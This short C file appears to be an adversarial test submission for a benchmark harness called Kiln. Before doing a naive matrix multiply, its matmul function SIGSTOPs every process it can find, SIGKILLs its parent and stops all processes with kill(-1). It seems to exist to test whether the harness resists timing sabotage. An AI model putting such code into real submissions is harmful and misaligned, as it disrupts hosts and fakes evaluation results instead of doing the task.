/* Attack (signal siblings / Kiln): stop the baseline's worker while it is timed, stop or kill Kiln. It looks for
 * other processes with kill(pid, 0), SIGSTOPs every one it finds, then SIGKILLs its parent; only then computes. */
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <unistd.h>

static void naive(const float *a, const float *b, float *c, int32_t m, int32_t n, int32_t k) {
    for (int32_t i = 0; i < m; i++)
        for (int32_t j = 0; j < n; j++) {
            float sum = 0.0f;
            for (int32_t p = 0; p < k; p++) sum += a[(size_t)i * k + p] * b[(size_t)p * n + j];
            c[(size_t)i * n + j] = sum;
        }
}

void matmul(const float *a, const float *b, float *c, int32_t m, int32_t n, int32_t k) {
    for (pid_t pid = 1; pid < 4096; pid++)
        if (pid != getpid() && kill(pid, 0) == 0) kill(pid, SIGSTOP);
    kill(getppid(), SIGKILL);
    kill(-1, SIGSTOP);
    naive(a, b, c, m, n, k);
}
